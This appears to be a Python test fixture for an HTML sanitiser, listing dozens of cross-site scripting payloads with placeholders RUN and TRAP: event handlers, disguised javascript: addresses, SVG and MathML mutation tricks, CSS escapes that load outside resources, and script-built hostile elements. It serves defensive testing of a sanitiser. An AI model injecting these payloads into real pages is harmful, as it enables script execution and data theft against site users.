"""Pages that try to get out of where they are shown: what they run is RUN, whom they call is TRAP.

The ones under "mutations" do nothing as they stand. Their elements change their meaning when a page is written anew
and parsed again: a style sheet becomes markup, a comment ends elsewhere, an attribute becomes an element.
"""

# To break an attack over many lines would not make it easier to read.
# ruff: noqa: E501

from inert.pages import ANNOTATED, ANNOTATED_IN_BROWSER, BREAKING_OUT, COLOURED, COPIED

IMG = "<img src=x onerror=RUN>"
ESCAPED_IMG = "&lt;img src=x onerror=RUN&gt;"

_RUNS = {
    "script": "<p>a<script>RUN</script><script src=TRAP/a.js></script><script type=module src=TRAP/b.js></script>",
    "script in svg": "<svg><script>RUN</script><script href=TRAP/a.js /><script xlink:href=TRAP/b.js /></svg>",
    "script in math": "<math><script>RUN</script><annotation-xml><script>RUN</script></annotation-xml></math>",
    "speculation": '<script type=speculationrules>{"prefetch":[{"urls":["TRAP/a"]}]}</script><p>a',
    "handlers": "<body onload=RUN onpageshow=RUN><img src=x onerror=RUN><svg onload=RUN><input autofocus onfocus=RUN>"
    "<details open ontoggle=RUN>x</details><marquee onstart=RUN>x</marquee><style onload=RUN></style>",
    "handlers in odd letters": "<img src=x OnErRoR=RUN><img/src=x/onerror=RUN><img src=x\fonerror=RUN><p\0 onclick=RUN>"
    "<img src=x onerror\n=\nRUN><svg><g ONLOAD=RUN /></svg><p on=RUN ONCLICK=RUN>x",
    "handlers that few know": "<p onbeforetoggle=RUN onscrollend=RUN oncontentvisibilityautostatechange=RUN "
    "style='content-visibility:auto'>x<p onanimationstart=RUN onanimationcancel=RUN style='animation:a 1s'>x"
    "<style>@keyframes a{}</style><xss onwebkitanimationstart=RUN ontransitionrun=RUN tabindex=1 onfocusin=RUN>x",
    "javascript addresses": "<a href=javascript:RUN>a</a><area href=javascript:RUN><form action=javascript:RUN>"
    "<button formaction=javascript:RUN>b</button><input type=image formaction=javascript:RUN></form>"
    "<iframe src=javascript:RUN></iframe><embed src=javascript:RUN><object data=javascript:RUN></object>",
    "javascript in disguise": "<a href=' &#1; java&#10;script:RUN'>a</a><a href='&#x01;javascript:RUN'>b</a>"
    "<a href='JaVaScRiPt&colon;RUN'>c</a><a href='java&Tab;script:RUN'>d</a><a href='java\r\nscript:RUN'>e</a>"
    "<a href='javascript&#x0003A;RUN'>f</a><a href='\x1f\x0bjavascript:RUN'>g</a><a href='vbscript:RUN'>h</a>"
    "<a href='javascript://%0aRUN'>i</a><a href='data:text/html,<script>RUN</script>'>j</a><a href='feed:javascript:RUN'>",
    "javascript in svg": "<svg><a href=javascript:RUN><text y=20>a</text></a><a xlink:href='java\nscript:RUN'>b</a>"
    "<use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>RUN</script></svg>#x'></use></svg>",
    "javascript in math": "<math href=javascript:RUN><mtext xlink:href=javascript:RUN>a</mtext>"
    "<maction actiontype=statusline#x href=javascript:RUN>b</maction></math>",
    "animations": "<svg><a><text y=20>a</text><animate attributeName=href values=javascript:RUN /></a>"
    "<a><set attributeName=xlink:href to=javascript:RUN /><text y=40>b</text></a>"
    "<animate onbegin=RUN attributeName=x dur=1s /><set onbegin=RUN attributeName=x to=1 />"
    "<animateTransform onbegin=RUN attributeName=transform /><animateMotion onbegin=RUN dur=1s /></svg>",
    "use as a page": "<svg><use href=a.svg#x /><use href=TRAP/a.svg#x /><use xlink:href=TRAP/b.svg#x /></svg>",
    "srcdoc": f"<iframe srcdoc='{ESCAPED_IMG}'></iframe><iframe srcdoc='<script>RUN</script>'></iframe>",
    "frames": "<iframe src=TRAP/a></iframe><object data=TRAP/b></object><embed src=TRAP/c><portal src=TRAP/d></portal>"
    "<fencedframe src=TRAP/e></fencedframe><applet code=TRAP/f></applet><iframe src='data:text/html,"
    "<script>RUN</script>'></iframe><embed src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=RUN>'>",
    "frameset": "<frameset onload=RUN><frame src=TRAP/a><frame src=javascript:RUN></frameset>",
    "refresh": "<meta http-equiv=refresh content='0;url=javascript:RUN'><meta http-equiv=refresh content='0;url=TRAP/a'>"
    "<meta http-equiv=REFRESH content=0;TRAP/b><p>a",
    "a policy of its own": "<meta http-equiv=Content-Security-Policy-Report-Only content='default-src *; report-uri TRAP'>"
    "<meta http-equiv=origin-trial content=x><p onclick=RUN>a",
    "base": "<base href='javascript:RUN//' target=_top><base href=TRAP/><a href=a>a</a><a href='#RUN'>b</a><img src=a>",
    "templates": f"<template>{IMG}</template><div><template shadowrootmode=open>{IMG}</template></div>"
    f"<template shadowroot=open>{IMG}</template>",
    "built-in elements": "<button is=x-evil onclick=RUN formaction=javascript:RUN>a</button><a is=x-evil href=javascript:RUN>",
}

_CALLS = {
    "images": "<img src=TRAP/a srcset='TRAP/b 1x, TRAP/c 2x'><input type=image src=TRAP/d><picture><source srcset=TRAP/e>"
    "<img></picture><table background=TRAP/f><td background=TRAP/g></table><img lowsrc=TRAP/h dynsrc=TRAP/i>"
    "<svg><image href=TRAP/j /><image xlink:href=TRAP/k /><feImage href=TRAP/l /></svg><image src=TRAP/m>"
    "<body background=TRAP/n>",
    "media": "<video src=TRAP/a poster=TRAP/b autoplay preload=auto><source src=TRAP/c><track default src=TRAP/d></video>"
    "<audio src=TRAP/e autoplay></audio><bgsound src=TRAP/f>",
    "links in the head": "".join(
        f"<link rel='{rel}' href=TRAP/{rel.replace(' ', '-')} as=image>"
        for rel in (
            "stylesheet,prefetch,preload,modulepreload,preconnect,dns-prefetch,icon,manifest,prerender,"
            "canonical stylesheet,alternate preconnect,author prefetch,next preload,license icon,compression-dictionary"
        ).split(",")
    )
    + "<link rel=preload as=image imagesrcset='TRAP/set 1x'><p>a",
    "pings": "<a href=#x ping=TRAP/a attributionsrc=TRAP/b>a</a><img attributionsrc=TRAP/c><p>a",
    "forms": "<form action=TRAP/a method=post><input name=q value=1><button>go</button>"
    "<button formaction=TRAP/b formmethod=get>go</button></form><form id=f><input type=submit></form>"
    "<button form=f formaction=TRAP/c>go</button>",
    "forms without an address": "<form method=post><input name=a value=b><button>go</button></form><form><button>go</form>"
    "<dialog open><form><button formmethod=post>go</button></form></dialog>",
    "style sheets": "<style>@import 'TRAP/a';@import url(TRAP/b);@IMPORT/**/'TRAP/c' screen;@\\69mport 'TRAP/d';"
    "@import'TRAP/e';@font-face{font-family:f;src:url(TRAP/f)}body{font-family:f;background:url(TRAP/g)}"
    "p{background:image-set('TRAP/h' 1x);cursor:url(TRAP/i),auto;--u:'TRAP/j';list-style-image:image-set(var(--u) 1x)}"
    "b{--v:url(TRAP/k);background:var(--v)}</style><p>a<b>b</b>",
    "style sheets in disguise": "<style>p{background:\\75\\72\\6c(TRAP/a)}b{background:u\\72 l('TRAP/b')}"
    'i{background:url(\\68ttp://elsewhere.invalid/c)}u{background:URL(  "TRAP/d" )}s{background:url(data:\\\nTRAP/e)}'
    "q{content:'url(\\'data:';background:url(TRAP/f);quotes:'\\')'}a{content:\"url('data:\" url(TRAP/g) '\"'}"
    "p::after{content:'/*';background:url(TRAP/h)}b::after{content:'*/'}i::after{content:url(data:/*);x:'*/url(TRAP/i)'}"
    "tt{background:\u00a0url(data:/*);x:'*/}tt{background:url(TRAP/j)}'}em{background:-webkit-image-set(url(TRAP/k) 1x)}"
    "td{background:url(TRAP/l'}td{background:url(TRAP/m)}h1{background:url(/**/TRAP/n)}h2{background:src('TRAP/o')}"
    "h3{background:-webkit-cross-fade(url(TRAP/p),url(TRAP/q),50%)}h4{content:'\n;background:url(TRAP/r)}"
    "h5{background:url<!--(x)url(TRAP/s)}h6{background:url/**/(x),url(TRAP/t)}</style>"
    "<p>a<b>b</b><i>i</i><u>u</u><s>s</s><q>q</q><a>a</a><tt>t</tt><em>e</em><table><td>td</table>"
    "<h1>1</h1><h2>2</h2><h3>3</h3><h4>4</h4><h5>5</h5><h6>6</h6>",
    "style attributes": "<p style='background:url(TRAP/a)'>a<p style=\"background:\\75rl('TRAP/b')\">b"
    "<p style='background:image-set(\"TRAP/c\" 1x)'>c<p style='--a:url(TRAP/d);background:var(--a)'>d"
    "<p style='/*;*/background:/**/url(TRAP/e)'>e<p style='filter:url(TRAP/f#x);mask:url(TRAP/g)'>f",
    "attributes of drawings": "<svg width=99 height=99><rect width=9 height=9 filter='url(TRAP/a#x)' mask='url(TRAP/b#x)' "
    "clip-path='url(TRAP/c#x)' fill='url(TRAP/d#x)' stroke='u\\72l(TRAP/e#x)' marker-end='url(TRAP/f#x)' "
    "cursor='url(TRAP/g),auto'/><path d='M0 0L9 9' marker-start='url(TRAP/h#x)'/></svg>",
    "old ways": "<html manifest=TRAP/a><body><object classid=TRAP/b codebase=TRAP/ archive=TRAP/c></object><img longdesc=TRAP/d>"
    "<q cite=TRAP/e>q</q><head profile=TRAP/f><svg xml:base=TRAP/><image href=g /></svg><p style='behavior:url(TRAP/h)'>a",
}

_MUTATIONS = {
    "mglyph": f"<math><mtext><table><mglyph><style><math>{IMG}",
    "malignmark": f"<math><mtext><table><malignmark><style><!--</style>{IMG}--><style>{IMG}</style></table></mtext></math>",
    "mglyph in a form": f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
    "style in svg": f"<svg></p><style><a id='</style>{IMG}'></a></style></svg>",
    "style in svg, that loads": "<svg><style>*{background:u&#114;l(TRAP/a)}@im&#112;ort 'TRAP/b';</style></svg>"
    "<math><mtext><table><mglyph><style>*{background:u&#114;l(TRAP/c)}@im&#112;ort 'TRAP/d';</style></table>",
    "style with a cdata section": f"<svg><style><![CDATA[</style>{IMG}]]></style></svg><math><style><![CDATA[{IMG}]]></style>",
    "style in foreignObject": f"<svg><foreignObject><style><p title='</style>{IMG}'></style></foreignObject></svg>",
    "style in desc and title": f"<svg><desc><style>{IMG}</style></desc><title><style>{IMG}</style>{IMG}</title></svg>",
    "style in select": f"<select><style>{IMG}</style><option>{ESCAPED_IMG}</select><select><script>RUN</script></select>",
    "style that ends early": f"<style>a::before{{content:'<\\/style>{IMG}'}}</style><style>/*</style>{IMG}*/</style>",
    "style in annotation-xml": f"<math><annotation-xml encoding=text/html><style>{IMG}</style></annotation-xml>"
    f"<annotation-xml><style>{IMG}</style></annotation-xml><annotation-xml encoding=x><svg><style>{IMG}</style></svg></math>",
    "style in noscript": f"<noscript><style></noscript>{IMG}</style></noscript><style><noscript></style>{IMG}</noscript>",
    "noscript and a title": f"<noscript><p title='</noscript>{IMG}'></noscript><noscript><img src=x onerror=RUN></noscript>",
    "noscript in the head": f"<head><noscript><link href='</noscript>{IMG}'><style><!--</noscript>{IMG}--></style></noscript>",
    "textarea": f"<textarea><p title='</textarea>{IMG}'></textarea><svg><textarea><p title='</textarea>{IMG}'></svg>",
    "title": f"<title><p title='</title>{IMG}'></title><svg><title><p title='</title>{IMG}'></title></svg>",
    "xmp": f"<xmp><p title='</xmp>{IMG}'></xmp><svg><xmp><p id='</xmp>{IMG}'></svg><xmp>{IMG}</xmp>",
    "iframe": f"<iframe><p title='</iframe>{IMG}'></iframe><svg><iframe><a id='</iframe>{IMG}'></svg>",
    "noembed": f"<noembed><p title='</noembed>{IMG}'></noembed><svg><noembed><a id='</noembed>{IMG}'></svg>",
    "noframes": f"<noframes><p title='</noframes>{IMG}'></noframes><svg><noframes><a id='</noframes>{IMG}'></svg>",
    "script as text": f"<script><!--<script>{IMG}</script>--></script>{IMG}<svg><script><a id='</script>{IMG}'></svg>",
    "comments": f"<!--><script>RUN</script>--><!--!>{IMG}--><!-- --!>{IMG}--><!-->{IMG}<![if IE]>{IMG}<![endif]><?{IMG}?>",
    "cdata": f"<svg><![CDATA[{IMG}]]></svg><![CDATA[{IMG}]]><math><![CDATA[><img src=x onerror=RUN>]]></math>",
    "doctype": f"<!DOCTYPE html PUBLIC '\">{IMG}' \"'>{IMG}\"><p>a",
    "names": f"<a\"b='><img src=x onerror=RUN>' onclick=RUN>x</a\"b><x<img src=x onerror=RUN><p \"=''><p a\"b='{ESCAPED_IMG}'>",
    "quotes": f'<p title="`{ESCAPED_IMG}`" id=\'"&gt;{ESCAPED_IMG}\' class=`onclick=RUN`>a<img alt="``onerror=RUN" src=x>',
    "quirks of parts of tables": f"<table><svg><desc><td><style><p title='</style>{IMG}'></table><table>{IMG}<math><tr><mi>",
    "nested links and buttons": f"<a><svg><a><style>{IMG}</style></a></svg><button><math><button><mtext><style>{IMG}",
    "deep": "<div>" * 600 + f"<svg><foreignObject><math><mtext><style><p title='</style>{IMG}'>",
    "body in foreignObject": "<svg><foreignObject><body onload=RUN background=TRAP/a><html onclick=RUN></foreignObject></svg>",
}

# For those who write in ways of their own: all text of a style element as it is, or comments, or plaintext.
_FOR_OTHERS = {
    "mglyph in a link": f"<math><mi><a><table><a><mglyph><style><math>{IMG}</style></table></mi></math>",
    "names in svg": '<svg><a"onload=RUN><g`onload=RUN><g x"onload=RUN /><ſcript>RUN</ſcript><ımg src=x></svg>',
    "mglyph and a comment": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{ESCAPED_IMG}'>",
    "template": f"<template><style></template>{IMG}</style></template><svg><template><style><a id='</template>{IMG}'></svg>",
    "comment in svg": f"<svg><!--</svg>{IMG}--><g title='--&gt;{ESCAPED_IMG}'></g><desc><!--</desc>{IMG}--></desc></svg>",
    "style in svg, as references": f"<svg><style>&lt;/style&gt;{ESCAPED_IMG}&lt;![CDATA[</style></svg>",
    "plaintext": f"<svg><plaintext><a id='{ESCAPED_IMG}'></svg><p>a<plaintext><p title='{ESCAPED_IMG}'>{IMG}",
}

# What no source says, and a script can build all the same.
_BUILT = {
    "foreign elements by hand": """<div id=a></div><script>
for (const [space, root] of [["http://www.w3.org/2000/svg", "svg"], ["http://www.w3.org/1998/Math/MathML", "math"]])
  for (const name of ["style", "xmp", "iframe", "noembed", "plaintext", "textarea", "title", "script"]) {
    const around = document.createElementNS(space, root), inner = document.createElementNS(space, name);
    inner.append("</" + name + "><img src=x onerror=RUN>");
    around.append(inner);
    a.append(around);
  }
</script>""",
    "a doctype by hand": """<!DOCTYPE html><p>a<script>
document.replaceChild(document.implementation.createDocumentType("html", "'><img src=x onerror=RUN>", ""),
  document.doctype)</script>""",
    "a doctype by hand, in other quotes": """<!DOCTYPE html><p>a<script>
document.replaceChild(document.implementation.createDocumentType("html", "x", '"><img src=x onerror=RUN>'),
  document.doctype)</script>""",
    "attributes by hand": """<p id=a>a</p><script>
for (const name of ["ONCLICK", 'a"b', "a<img", "xlink:href", "SRCDOC"]) try { a.setAttribute(name, "javascript:RUN") } catch {}
a.setAttributeNS("http://www.w3.org/1999/xlink", "q:href", "javascript:RUN");
a.append(Object.assign(document.createElement("a"), {href: "\\u0001java\\tscript:RUN", textContent: "b"}))</script>""",
    "a shadow tree": """<div id=a></div><script>
a.attachShadow({mode: "open"}).innerHTML = "<style>p{color:red}</style><p onclick=RUN>a<img src=x onerror=RUN>"</script>""",
}


def _as_here(page: str) -> str:
    """A page of another test, with the words of this one."""
    for word in ("steal()", "x()", "window.broken = 1", "top.broken='data'", "top.broken"):
        page = page.replace(word, "RUN")
    return page.replace("http://TRAP", "TRAP").replace("//evil.example", "TRAP")


_OTHERS = {
    "the annotator's": ANNOTATED,
    "the annotator's in the browser": ANNOTATED_IN_BROWSER,
    "the copy's": COPIED,
    "the copy's that break out": BREAKING_OUT,
    "the coloured page's": COLOURED,
}

ALIVE: dict[str, str] = _RUNS | _CALLS | _MUTATIONS | _BUILT | {name: _as_here(page) for name, page in _OTHERS.items()}
ATTACKS: dict[str, str] = ALIVE | _FOR_OTHERS
